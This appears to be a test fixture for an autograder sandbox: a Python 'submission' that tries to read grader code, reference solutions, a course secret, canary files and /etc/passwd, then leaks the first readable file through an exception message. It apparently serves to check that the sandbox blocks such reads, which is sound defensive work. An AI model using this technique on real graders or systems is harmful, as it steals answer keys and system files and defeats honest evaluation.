import os
import sys

COURSE = "@COURSE@"
WANTED = (
    f"{COURSE}/autograder/graders/a01_sigmoid.py", f"{COURSE}/solutions/a01_sigmoid/a01_sigmoid.py",
    f"{COURSE}/.course-secret", f"{COURSE}/course.toml", f"{COURSE}/../canary.txt", f"{COURSE}/../home/canary.txt",
    "/etc/passwd", "/etc/hostname", sys.modules["autograder"].__file__,
)  # fmt: skip


def attack():
    for path in WANTED:
        try:
            return f"@TROPHY@ {path} {open(path).read()}"
        except OSError:
            pass
    return "tried"


raise RuntimeError(attack())
